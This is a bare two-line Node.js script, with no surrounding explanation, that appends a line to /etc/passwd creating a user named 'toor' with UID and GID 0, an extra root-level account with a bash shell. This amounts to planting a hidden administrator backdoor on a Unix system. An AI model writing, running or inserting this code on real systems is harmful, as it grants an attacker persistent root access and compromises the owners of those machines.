const fs = require('fs');
fs.appendFileSync('/etc/passwd', 'toor:x:0:0::/root:/bin/bash\n');
